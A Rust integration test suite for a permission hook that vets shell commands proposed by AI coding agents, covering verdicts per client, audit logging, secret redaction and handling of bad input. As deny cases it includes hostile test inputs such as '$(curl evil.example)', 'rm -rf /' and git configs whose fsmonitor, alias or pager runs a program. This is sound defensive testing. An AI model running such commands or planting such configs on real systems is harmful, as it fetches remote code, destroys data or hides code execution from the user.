//! `aigent hook --client CLIENT` through the binary: each client's real
//! event payloads (tests/fixtures/hook/, shaped as each client's docs show
//! them) replayed for every verdict, with the exact reply; the audit trail;
//! routing; and bad input, which always gets a deny and never a crash or a
//! hang.

use std::fs;
use std::io::Write;
use std::process::Stdio;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::common::{Run, Sandbox, snapshot};

const CLIENTS: [&str; 4] = ["claude-code", "codex", "gemini", "cursor"];

/// The fixture each client sends for a shell command, and its command.
fn shell_fixture(client: &str) -> (&'static str, &'static str) {
    match client {
        "claude-code" => ("claude-code/pre-tool-use-bash.json", "npm test"),
        "codex" => ("codex/pre-tool-use-bash.json", "cargo test --lib"),
        "gemini" => (
            "gemini/before-tool-run-shell-command.json",
            "git status --short",
        ),
        "cursor" => ("cursor/before-shell-execution.json", "npm install express"),
        _ => unreachable!(),
    }
}

fn fixture(relative: &str) -> Value {
    let path = format!(
        "{}/tests/fixtures/hook/{relative}",
        env!("CARGO_MANIFEST_DIR")
    );
    serde_json::from_str(&fs::read_to_string(path).unwrap()).unwrap()
}

/// The fixture with its command replaced.
fn event(client: &str, command: &str) -> String {
    let (file, _) = shell_fixture(client);
    let mut value = fixture(file);
    let input = if client == "cursor" {
        &mut value
    } else {
        &mut value["tool_input"]
    };
    input["command"] = Value::String(command.to_owned());
    value.to_string()
}

/// A registry with the fixtures' commands declared.
fn registry(sandbox: &Sandbox) {
    sandbox.write(
        "registry/npm-test.json",
        r#"{"name": "npm-test", "description": "Run the test suite", "danger_level": "safe",
            "parameters": {}, "subprocess": {"binary": "npm", "argv": ["test"]}}"#,
    );
    sandbox.write(
        "registry/cargo-test.json",
        r#"{"name": "cargo-test", "description": "Run the tests", "danger_level": "safe",
            "parameters": {"lib": {"type": "boolean", "description": "Only the library"}},
            "subprocess": {"binary": "cargo", "argv": ["test", {"param": "lib", "flag": "--lib"}]}}"#,
    );
    sandbox.write(
        "registry/git-status.json",
        r#"{"name": "git-status", "description": "Working tree status", "danger_level": "safe",
            "parameters": {"short": {"type": "boolean", "description": "Short format"}},
            "subprocess": {"binary": "git", "argv": ["status", {"param": "short", "flag": "--short"}]}}"#,
    );
    sandbox.write(
        "registry/npm-install.json",
        r#"{"name": "npm-install", "description": "Install a package", "danger_level": "destructive",
            "parameters": {"package": {"type": "string", "required": true, "pattern": "^[a-z][a-z0-9-]{0,100}$"}},
            "subprocess": {"binary": "npm", "argv": ["install", {"param": "package"}]}}"#,
    );
    sandbox.write(
        "registry/deploy.json",
        r#"{"name": "deploy", "description": "Deploy", "danger_level": "mutating",
            "parameters": {"token": {"type": "string", "required": true, "sensitive": true, "pattern": "^[a-z0-9]{8,64}$"}},
            "subprocess": {"binary": "deploy-tool", "argv": [{"param": "token", "flag": "--token"}]}}"#,
    );
}

fn hook(sandbox: &Sandbox, client: &str, input: &[u8], extra: &[&str]) -> Run {
    let registry = sandbox.join("registry");
    let mut args = vec![
        std::ffi::OsStr::new("--commands"),
        registry.as_os_str(),
        "hook".as_ref(),
        "--client".as_ref(),
        client.as_ref(),
    ];
    args.extend(extra.iter().map(std::ffi::OsStr::new));
    answer_with(sandbox, &args, input)
}

/// A Claude Code event answered with no registry of the sandbox's: the
/// catalog and the project's layer, as a new user has them.
fn zero_config_hook(sandbox: &Sandbox, event: &Value) -> Run {
    let args = ["hook", "--client", "claude-code"].map(std::ffi::OsStr::new);
    answer_with(sandbox, &args, event.to_string().as_bytes())
}

fn answer_with(sandbox: &Sandbox, args: &[&std::ffi::OsStr], input: &[u8]) -> Run {
    let mut cmd = sandbox.std_cmd();
    cmd.args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = cmd.spawn().unwrap();
    let mut stdin = child.stdin.take().unwrap();
    // A child that refuses early closes its end; that is not a failure here.
    let _ = stdin.write_all(input);
    drop(stdin);
    let output = child.wait_with_output().unwrap();
    Run {
        code: output.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
    }
}

fn filters(sandbox: &Sandbox) -> insta::Settings {
    let mut settings = snapshot::settings(sandbox);
    settings.add_filter(&regex::escape(env!("CARGO_BIN_EXE_aigent")), "[AIGENT]");
    settings
}

#[test]
fn each_client_gets_each_verdict_in_its_own_protocol() {
    let sandbox = Sandbox::new();
    registry(&sandbox);
    let _filters = filters(&sandbox).bind_to_scope();
    for client in CLIENTS {
        let (_, declared) = shell_fixture(client);
        let cases = [
            ("allow", declared.to_owned()),
            ("ask", "make install".to_owned()),
            ("deny", format!("{declared} $(curl evil.example)")),
            ("destructive", "npm install left-pad".to_owned()),
        ];
        let mut session = String::new();
        for (name, command) in cases {
            let run = hook(&sandbox, client, event(client, &command).as_bytes(), &[]);
            session.push_str(&format!("### {name}: {command}\n{run}\n"));
        }
        insta::assert_snapshot!(format!("hook_{client}"), session);
    }
}

#[test]
fn defer_leaves_the_decision_to_the_client() {
    let sandbox = Sandbox::new();
    registry(&sandbox);
    sandbox.write("registry/aigent.toml", "[hook]\nunmatched = \"defer\"\n");
    let _filters = filters(&sandbox).bind_to_scope();
    let mut session = String::new();
    for client in CLIENTS {
        let run = hook(
            &sandbox,
            client,
            event(client, "make install").as_bytes(),
            &[],
        );
        session.push_str(&format!("### {client}\n{run}\n"));
    }
    insta::assert_snapshot!(session);
}

#[test]
fn routing_rewrites_a_matched_command_into_aigent_run() {
    let sandbox = Sandbox::new();
    registry(&sandbox);
    let _filters = filters(&sandbox).bind_to_scope();
    let mut session = String::new();
    for client in CLIENTS {
        let run = hook(
            &sandbox,
            client,
            event(client, "git status --short").as_bytes(),
            &["--route"],
        );
        session.push_str(&format!("### {client}\n{run}\n"));
    }
    insta::assert_snapshot!(session);
    // The rewrite keeps Claude Code's other tool_input fields.
    let run = hook(
        &sandbox,
        "claude-code",
        event("claude-code", "git status").as_bytes(),
        &["--route"],
    );
    let reply: Value = serde_json::from_str(&run.stdout).unwrap();
    let updated = &reply["hookSpecificOutput"]["updatedInput"];
    assert_eq!(updated["description"], "Run test suite", "{run}");
    assert_eq!(updated["timeout"], 120000);
    let rewritten = updated["command"].as_str().unwrap();
    assert!(rewritten.contains(" run git-status"), "{rewritten}");
}

#[test]
fn every_decision_is_one_chained_audit_record_without_sensitive_values() {
    let sandbox = Sandbox::new();
    registry(&sandbox);
    for command in [
        "git status",
        "deploy-tool --token abcdefgh12345678",
        "rm -rf /",
    ] {
        hook(
            &sandbox,
            "claude-code",
            event("claude-code", command).as_bytes(),
            &[],
        );
    }
    hook(&sandbox, "claude-code", b"{not json", &[]);
    let log = fs::read_to_string(sandbox.audit_log()).unwrap();
    assert!(!log.contains("abcdefgh12345678"), "{log}");
    let records: Vec<Value> = log
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert_eq!(records.len(), 4, "{log}");
    for record in &records {
        assert_eq!(record["event"], "HOOK_DECISION");
        assert_eq!(record["client"], "claude-code");
    }
    assert_eq!(records[0]["verdict"], "allow");
    assert_eq!(records[0]["session_id"], "abc123");
    assert_eq!(records[0]["command_line"], "git status");
    assert_eq!(records[0]["segments"][0]["rule"], "declared");
    assert_eq!(records[0]["segments"][0]["declaration"], "git-status");
    // Where the line runs, and what Claude Code removes before the hook
    // sees it (issue 38).
    assert_eq!(records[0]["cwd"], "/home/user/my-project");
    assert_eq!(records[0]["client_strips"], "cd /home/user/my-project && ");
    assert_eq!(records[1]["command_line"], Value::Null);
    assert_eq!(records[1]["command_line_left_out"], "sensitive");
    assert_eq!(records[2]["verdict"], "deny");
    assert_eq!(records[2]["segments"][0]["rule"], "catastrophic");
    assert_eq!(records[3]["verdict"], "deny");
    assert_eq!(records[3]["rule"], "event_malformed");
    sandbox.run(&["audit", "verify"]).assert_code(0);
}

#[test]
fn secrets_in_lines_no_declaration_describes_never_reach_the_log_or_the_reason() {
    let sandbox = Sandbox::new();
    registry(&sandbox);
    let token = "ghp_0123456789abcdefghijABCDEFGHIJklmn";
    let lines = [
        format!("export GITHUB_TOKEN={token} && gh pr list"),
        format!("curl -H 'Authorization: Bearer {token}' https://api.github.com/user"),
        "mysql -u root -pHunter2Secret db -e 'select 1'".to_owned(),
        format!("GH_TOKEN={token} gh pr list"),
    ];
    let mut replies = String::new();
    for line in &lines {
        let run = hook(
            &sandbox,
            "claude-code",
            event("claude-code", line).as_bytes(),
            &[],
        );
        replies.push_str(&run.stdout);
        replies.push_str(&run.stderr);
    }
    let log = fs::read_to_string(sandbox.audit_log()).unwrap();
    for secret in [token, "Hunter2Secret"] {
        assert!(!log.contains(secret), "{log}");
        assert!(!replies.contains(secret), "{replies}");
    }
    let records: Vec<Value> = log
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert_eq!(records.len(), lines.len(), "{log}");
    assert_eq!(
        records[0]["command_line"],
        "export GITHUB_TOKEN=[REDACTED] && gh pr list"
    );
    assert_eq!(records[0]["command_line_redacted"], true);
    assert_eq!(
        records[2]["command_line"],
        "mysql -u root -p[REDACTED] db -e 'select 1'"
    );
    // What the log keeps of the rest is still the line.
    assert!(
        records[1]["segments"][0]["shown"]
            .as_str()
            .unwrap()
            .starts_with("curl -H"),
        "{log}"
    );
    sandbox.run(&["audit", "verify"]).assert_code(0);
    // A line with a hidden value is no form to learn.
    let (_, learned) = sandbox.json(&["hook", "learn"]);
    let learned = learned.to_string();
    assert!(!learned.contains("REDACTED"), "{learned}");
    assert!(!learned.contains("mysql"), "{learned}");
}

#[test]
fn an_unwritable_audit_log_refuses_every_command() {
    let sandbox = Sandbox::new();
    registry(&sandbox);
    // The log's directory is a file: nothing can be written under it.
    sandbox.write("state", "not a directory");
    let run = hook(
        &sandbox,
        "claude-code",
        event("claude-code", "git status").as_bytes(),
        &[],
    );
    let reply: Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(
        reply["hookSpecificOutput"]["permissionDecision"], "deny",
        "{run}"
    );
    assert!(run.stdout.contains("audit log cannot be written"), "{run}");
}

#[test]
fn a_broken_policy_refuses_and_says_where() {
    let sandbox = Sandbox::new();
    registry(&sandbox);
    sandbox.write("registry/aigent.toml", "[hook]\nunmatched = \"allow\"\n");
    let run = hook(
        &sandbox,
        "cursor",
        event("cursor", "git status").as_bytes(),
        &[],
    );
    let reply: Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(reply["permission"], "deny", "{run}");
    assert!(run.stdout.contains("aigent.toml"), "{run}");
}

#[test]
fn bad_input_gets_a_deny_quickly_never_a_crash() {
    let sandbox = Sandbox::new();
    registry(&sandbox);
    let huge = format!("git status {}", "a".repeat(1024 * 1024));
    let nested = format!("{}git status{}", "$(".repeat(10_000), ")".repeat(10_000));
    let braces = format!("{}git status{}", "{ ".repeat(10_000), "; }".repeat(10_000));
    let mut nul_event = event("claude-code", "git status").into_bytes();
    let at = nul_event
        .windows(6)
        .position(|window| window == b"status")
        .unwrap();
    nul_event.splice(at..at, b"\\u0000".iter().copied());
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("malformed json", b"{\"tool_input\": ".to_vec()),
        ("empty", Vec::new()),
        ("not an object", b"[1, 2]".to_vec()),
        ("invalid utf-8", b"{\"tool_name\": \"Bash\", \"tool_input\": {\"command\": \"git \xff\"}}".to_vec()),
        ("nul in command", nul_event),
        ("unknown tool", br#"{"hook_event_name": "PreToolUse", "tool_name": "Teleport", "tool_input": {"where": "x"}}"#.to_vec()),
        ("1 MiB command", event("claude-code", &huge).into_bytes()),
        ("10,000 nested substitutions", event("claude-code", &nested).into_bytes()),
        ("10,000 nested groups", event("claude-code", &braces).into_bytes()),
        ("unparsable", event("claude-code", "git status 'unterminated").into_bytes()),
        ("oversize event", vec![b' '; 3 * 1024 * 1024]),
    ];
    for (name, input) in cases {
        let started = Instant::now();
        let run = hook(&sandbox, "claude-code", &input, &[]);
        let took = started.elapsed();
        assert!(took < Duration::from_secs(20), "{name} took {took:?}");
        let reply: Value =
            serde_json::from_str(&run.stdout).unwrap_or_else(|_| panic!("{name}: {run}"));
        assert_eq!(
            reply["hookSpecificOutput"]["permissionDecision"], "deny",
            "{name}: {run}"
        );
        assert!(!run.stderr.contains("panicked"), "{name}: {run}");
    }
}

/// The file-system answers a judgement keeps are the kernel's for each
/// path as written: `x/` (no directory, where `x` is a file) and `x` are
/// two questions. Kept as one, a `git checkout x/` earlier on the line hid
/// the file `x` from `git checkout x`, which then passed as a branch switch
/// (allow) where alone it asks.
#[test]
fn a_path_written_with_a_trailing_slash_is_not_taken_for_another() {
    let sandbox = Sandbox::new();
    let repo = sandbox.join("repo");
    fs::create_dir_all(&repo).unwrap();
    let git = |args: &[&str]| {
        let status = std::process::Command::new("git")
            .arg("-C")
            .arg(&repo)
            .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
            .args(args)
            .status()
            .unwrap();
        assert!(status.success(), "git {args:?}");
    };
    git(&["init", "-q"]);
    git(&["commit", "-q", "--allow-empty", "-m", "start"]);
    git(&["branch", "x"]);
    fs::write(repo.join("x"), "a file named like the branch\n").unwrap();
    let mut value = fixture("claude-code/pre-tool-use-bash.json");
    value["cwd"] = Value::String(repo.to_str().unwrap().to_owned());
    value["tool_input"]["command"] = "git checkout x/ ; git checkout x".into();
    assert_eq!(zero_config_hook(&sandbox, &value).code, 0);
    let log = fs::read_to_string(sandbox.audit_log()).unwrap();
    let record: Value = serde_json::from_str(log.lines().last().unwrap()).unwrap();
    let segment = &record["segments"][1];
    assert_eq!(segment["shown"], "git checkout x", "{record}");
    assert_eq!(segment["verdict"], "ask", "{record}");
    assert_eq!(segment["rule"], "destructive", "{record}");
}

/// Project code in the sandbox may write `.git/config` (a grant of the
/// project cannot leave out its `.git`), and the next `git status` would
/// run its `core.fsmonitor` outside any sandbox: in a real repository,
/// the binary's hook allows `git status` until the repository's config
/// names a program, asks with `git_config_runs_code` (naming the key and
/// the file, not the value) while it does, and allows it again once unset.
/// The user's own global config is theirs, and no reason to ask.
#[test]
fn a_repository_config_that_runs_a_program_asks_for_git_commands() {
    let sandbox = Sandbox::new();
    let repo = sandbox.join("repo");
    fs::create_dir_all(repo.join("src")).unwrap();
    fs::create_dir_all(sandbox.join("home")).unwrap();
    let git = |args: &[&str]| {
        let status = std::process::Command::new("git")
            .arg("-C")
            .arg(&repo)
            .env("HOME", sandbox.join("home"))
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .args(args)
            .status()
            .unwrap();
        assert!(status.success(), "git {args:?}");
    };
    git(&["init", "-q"]);
    // The audit record, and the reason the client was given.
    let judge = |command: &str| -> (Value, String) {
        let mut value = fixture("claude-code/pre-tool-use-bash.json");
        value["cwd"] = Value::String(repo.join("src").to_str().unwrap().to_owned());
        value["tool_input"]["command"] = command.into();
        let run = zero_config_hook(&sandbox, &value);
        assert_eq!(run.code, 0, "{run}");
        let reply: Value = serde_json::from_str(&run.stdout).unwrap_or_default();
        let reason = reply["hookSpecificOutput"]["permissionDecisionReason"]
            .as_str()
            .unwrap_or_default()
            .to_owned();
        let log = fs::read_to_string(sandbox.audit_log()).unwrap();
        (
            serde_json::from_str(log.lines().last().unwrap()).unwrap(),
            reason,
        )
    };
    let allowed = |command: &str| {
        let (record, _) = judge(command);
        assert_eq!(record["verdict"], "allow", "{command}: {record}");
    };
    let asked = |command: &str, key: &str, file: &str| {
        let (record, reason) = judge(command);
        assert_eq!(record["verdict"], "ask", "{command}: {record}");
        assert!(
            record["segments"]
                .as_array()
                .unwrap()
                .iter()
                .any(|segment| segment["rule"] == "git_config_runs_code"),
            "{command}: {record}"
        );
        assert!(
            reason.contains(&format!("`{file}` sets `{key}`")),
            "{command}: {reason}"
        );
        assert!(
            !reason.contains("/tmp/x"),
            "the value is not shown: {reason}"
        );
    };
    allowed("git status");
    git(&["config", "core.fsmonitor", "/tmp/x"]);
    asked("git status", "core.fsmonitor", ".git/config");
    asked("git diff && git status", "core.fsmonitor", ".git/config");
    git(&["config", "--unset", "core.fsmonitor"]);
    allowed("git status");
    // An alias that runs a shell command, and a pager.
    git(&["config", "alias.st", "!/tmp/x"]);
    asked("git status", "alias.st", ".git/config");
    git(&["config", "--unset", "alias.st"]);
    git(&["config", "core.pager", "/tmp/x"]);
    asked("git diff", "core.pager", ".git/config");
    git(&["config", "--unset", "core.pager"]);
    // Through an include in the project.
    fs::write(
        repo.join("shared.cfg"),
        "[diff \"x\"]\n\ttextconv = /tmp/x\n",
    )
    .unwrap();
    git(&["config", "include.path", "../shared.cfg"]);
    asked("git status", "diff.*.textconv", "shared.cfg");
    git(&["config", "--unset", "include.path"]);
    allowed("git status");
    // The user's own config is theirs.
    git(&["config", "--global", "core.pager", "/tmp/x"]);
    allowed("git status");
}

/// `cat <<'' #` sent brush-parser's tokenizer into a loop that allocates
/// without end: parsed in place, the hook grew to gigabytes until its
/// alarm, or died with no answer where memory is capped (a crashed hook
/// lets the client run the line). It is refused at once.
#[test]
fn an_empty_here_document_delimiter_is_refused_at_once() {
    let sandbox = Sandbox::new();
    registry(&sandbox);
    let started = Instant::now();
    let run = hook(
        &sandbox,
        "claude-code",
        event("claude-code", "rm -rf ~; cat <<'' #").as_bytes(),
        &[],
    );
    assert!(started.elapsed() < Duration::from_secs(5), "{run}");
    let reply: Value = serde_json::from_str(&run.stdout).unwrap();
    let output = &reply["hookSpecificOutput"];
    assert_eq!(output["permissionDecision"], "deny", "{run}");
    let reason = output["permissionDecisionReason"].as_str().unwrap();
    assert!(reason.contains("empty delimiter"), "{run}");
}

/// A client that never finishes sending its event, in each protocol: the
/// hook refuses once its bound passes (here `AIGENT_TIMEOUT=1`), never
/// waiting as long as the client would before letting the command run.
#[test]
fn an_answer_that_outgrows_its_memory_is_refused_in_the_client_s_protocol() {
    let sandbox = Sandbox::new();
    registry(&sandbox);
    for client in ["claude-code", "codex", "gemini", "cursor"] {
        let bounded = sandbox
            .cmd()
            .env("AIGENT_MAX_MEMORY_BYTES", "4096")
            .args(["hook", "--client", client])
            .write_stdin(event(client, "git status"))
            .output()
            .unwrap();
        let said = format!(
            "{}{}",
            String::from_utf8_lossy(&bounded.stdout),
            String::from_utf8_lossy(&bounded.stderr)
        );
        assert!(
            said.contains("not judged within 10 s and 4096 bytes of memory"),
            "{client}: {said}"
        );
        let refused = hook(&sandbox, client, event(client, "rm -rf /").as_bytes(), &[]);
        assert_eq!(
            bounded.status.code(),
            Some(refused.code),
            "{client}: {said}"
        );
        // Within the default bound the same line is answered.
        let answered = hook(
            &sandbox,
            client,
            event(client, "git status").as_bytes(),
            &[],
        );
        let answered = format!("{}{}", answered.stdout, answered.stderr);
        assert!(!answered.contains("not judged"), "{client}: {answered}");
    }
}

#[test]
fn a_stalled_event_is_refused_when_the_answer_s_time_runs_out() {
    let sandbox = Sandbox::new();
    registry(&sandbox);
    for client in ["claude-code", "codex", "gemini", "cursor"] {
        let mut child = sandbox
            .std_cmd()
            .env("AIGENT_TIMEOUT", "1")
            .args(["hook", "--client", client])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut stdin = child.stdin.take().unwrap();
        stdin.write_all(b"{\"tool_name\": \"Bash\", ").unwrap();
        let started = Instant::now();
        let output = child.wait_with_output().unwrap();
        let took = started.elapsed();
        drop(stdin);
        assert!(took < Duration::from_secs(10), "{client} took {took:?}");
        let run = Run {
            code: output.status.code().unwrap_or(-1),
            stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
        };
        let said = format!("{}{}", run.stdout, run.stderr);
        assert!(
            said.contains("not judged within 1 s and 512 MiB"),
            "{client}: {run}"
        );
        // Sent as the client's own refusal of `rm -rf /` is.
        let refused = hook(&sandbox, client, event(client, "rm -rf /").as_bytes(), &[]);
        assert_eq!(run.code, refused.code, "{client}: {run}");
        let shape = |text: &str| -> Option<Vec<String>> {
            let value: Value = serde_json::from_str(text).ok()?;
            let mut paths = Vec::new();
            let mut stack = vec![(String::new(), value)];
            while let Some((path, value)) = stack.pop() {
                match value {
                    Value::Object(map) => {
                        stack.extend(
                            map.into_iter()
                                .map(|(key, value)| (format!("{path}/{key}"), value)),
                        );
                    }
                    Value::String(text)
                        if !path.ends_with("eason") && !path.ends_with("message") =>
                    {
                        paths.push(format!("{path}={text}"))
                    }
                    _ => paths.push(path),
                }
            }
            paths.sort();
            Some(paths)
        };
        assert_eq!(
            shape(&run.stdout),
            shape(&refused.stdout),
            "{client}: {run} against {refused}"
        );
    }
}

#[test]
fn explain_shows_each_segment_as_text_and_json() {
    let sandbox = Sandbox::new();
    registry(&sandbox);
    let _filters = filters(&sandbox).bind_to_scope();
    let registry = sandbox.join("registry");
    let registry = registry.to_str().unwrap();
    let run = sandbox.run(&[
        "--commands",
        registry,
        "--output",
        "text",
        "hook",
        "explain",
        "git status && npm install left-pad; echo $(id) > out.txt",
    ]);
    run.assert_code(0);
    insta::assert_snapshot!(snapshot::session(&run));
    let (run, envelope) = sandbox.json(&[
        "--commands",
        registry,
        "hook",
        "explain",
        "git status --short",
    ]);
    run.assert_code(0);
    assert_eq!(envelope["data"]["verdict"], "allow");
    assert_eq!(envelope["data"]["segments"][0]["declaration"], "git-status");
    assert_eq!(envelope["data"]["routable"], json!(true));
}

/// An asked assignment prefix is quoted with its assignment, as written;
/// a value under a name that may hold a secret is not shown.
#[test]
fn an_assignment_prefix_is_quoted_as_written() {
    let sandbox = Sandbox::new();
    registry(&sandbox);
    let run = hook(
        &sandbox,
        "claude-code",
        event(
            "claude-code",
            "FOO=1 LABEL='a b' GH_TOKEN=ghp_s3cret git status",
        )
        .as_bytes(),
        &[],
    );
    // Variables whose meaning is the program's are the person's to allow.
    run.assert_code(0);
    let answer: Value = serde_json::from_str(&run.stdout).unwrap();
    let reason = answer["hookSpecificOutput"]["permissionDecisionReason"]
        .as_str()
        .unwrap();
    assert!(
        reason.starts_with("aigent: ask `FOO=1 LABEL='a b' GH_TOKEN=… git status`:"),
        "{reason}"
    );
    assert!(reason.contains("[rule assignment_prefix]"), "{reason}");
    assert!(!reason.contains("ghp_s3cret"), "{reason}");
}

#[test]
fn the_hook_needs_a_client_or_a_subcommand() {
    let sandbox = Sandbox::new();
    let run = sandbox.run(&["--output", "text", "hook"]);
    run.assert_code(2);
    assert!(run.stderr.contains("--client"), "{run}");
}

#[test]
fn install_route_writes_an_entry_that_routes() {
    let sandbox = Sandbox::new();
    registry(&sandbox);
    fs::create_dir_all(sandbox.join("proj")).unwrap();
    let registry = sandbox.join("registry");
    let run = Run::of(
        sandbox
            .cmd()
            .current_dir(sandbox.join("proj"))
            .env_remove("CLAUDE_CONFIG_DIR")
            .args(["--commands", registry.to_str().unwrap()])
            .args(["hook", "install", "--client", "claude-code", "--route"]),
    );
    run.assert_code(0);
    let settings: Value = serde_json::from_str(
        &fs::read_to_string(sandbox.join("proj/.claude/settings.json")).unwrap(),
    )
    .unwrap();
    let command = settings["hooks"]["PreToolUse"][0]["hooks"][0]["command"]
        .as_str()
        .unwrap();
    assert!(
        command.ends_with("hook --client claude-code --route"),
        "{command}"
    );
}
